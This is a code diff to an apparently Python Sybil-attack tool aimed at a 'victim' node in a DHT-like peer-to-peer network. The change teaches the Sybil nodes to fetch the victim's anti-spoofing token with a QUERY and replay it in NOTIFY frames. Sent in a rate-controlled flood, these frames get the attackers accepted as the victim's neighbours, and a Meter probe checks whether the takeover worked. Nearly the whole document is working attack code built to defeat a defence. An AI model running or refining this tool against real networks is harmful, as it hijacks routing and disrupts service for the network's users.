@@ -17,7 +17,7 @@ import time
 from attacks.aim import add_aim, number_of
 from attacks.floods import own_address
 from attacks.places import nearest_ports
-from frames import ACK, LOOKUP, NEIGHBOURS, NOTIFY, QUERY, Frame, Rejected, decode, encode, id_of
+from frames import ACK, LOOKUP, NEIGHBOURS, NOTIFY, QUERY, Frame, Rejected, area_of, decode, encode, id_of, token_in
 
 SUCCESSORS = 8  # of those that a peer keeps
 
@@ -27,6 +27,7 @@ class Sybil(asyncio.DatagramProtocol):
 
     def __init__(self, gang, number):
         self.gang, self.number, self.me, self.transport = gang, number, gang.members[number], None
+        self.token = 0  # what the victim knows us by
 
     def connection_made(self, transport):
         self.transport = transport
@@ -42,10 +43,19 @@ class Sybil(asyncio.DatagramProtocol):
             peers = tuple(members[(here + i) % len(members)] for i in range(1, min(SUCCESSORS, len(members) - 1) + 1))
             answer = Frame(NEIGHBOURS, frame.id, frame.attempt, responsible=True, predecessor=members[here - 1], peers=peers)
             self.transport.sendto(encode(answer), address[:2])
+        elif frame.type == NEIGHBOURS and address[:2] == self.gang.options.target:
+            self.token = token_in(frame) or self.token
         elif frame.type == LOOKUP:
             self.gang.count["lookups_answered"] += 1
             answer = Frame(ACK, frame.id, frame.attempt, frame.hops, frame.marked, endpoint=self.me)
             self.transport.sendto(encode(answer), address[:2])
+
+    def notify(self):
+        """Tells the victim of itself: by a query, which brings a token, or by a notify, which needs one."""
+        target = self.gang.options.target
+        frame = Frame(NOTIFY if self.token else QUERY, secrets.randbits(64), key=id_of(target))
+        frame.extensions = area_of(self.token)
+        self.transport.sendto(encode(frame), target)
 
     async def on_connection(self, reader, writer):
         """Requests are read, and dropped."""
@@ -62,14 +72,15 @@ class Meter(asyncio.DatagramProtocol):
     """Asks the victim, from a port that is nobody's, for a key that is its own as long as nobody sits next to it."""
 
     def __init__(self, gang):
-        self.gang, self.transport = gang, None
+        self.gang, self.transport, self.token = gang, None, 0
 
     def connection_made(self, transport):
         self.transport = transport
 
     def ask(self):
         key = (id_of(self.gang.options.target) + 1) % 2**160
-        self.transport.sendto(encode(Frame(QUERY, secrets.randbits(64), key=key)), self.gang.options.target)
+        frame = Frame(QUERY, secrets.randbits(64), key=key, extensions=area_of(self.token))
+        self.transport.sendto(encode(frame), self.gang.options.target)
 
     def datagram_received(self, data, address):
         try:
@@ -77,7 +88,9 @@ class Meter(asyncio.DatagramProtocol):
         except Rejected:
             return
         if frame.type == NEIGHBOURS and frame.responsible and address[:2] == self.gang.options.target:
-            self.gang.seen(frame)
+            if not token_in(frame):  # who shows no token gets a short answer
+                self.gang.seen(frame)
+            self.token = token_in(frame) or self.token
 
 
 class Sybils:
@@ -120,7 +133,7 @@ class Sybils:
     async def notify(self, sybils):
         number = 0
         while True:
-            sybils[number % len(sybils)].transport.sendto(encode(Frame(NOTIFY, secrets.randbits(64))), self.options.target)
+            sybils[number % len(sybils)].notify()
             self.count["notifies"] += 1
             number += 1
             await asyncio.sleep(1 / self.options.rate if self.options.rate else 0.001)
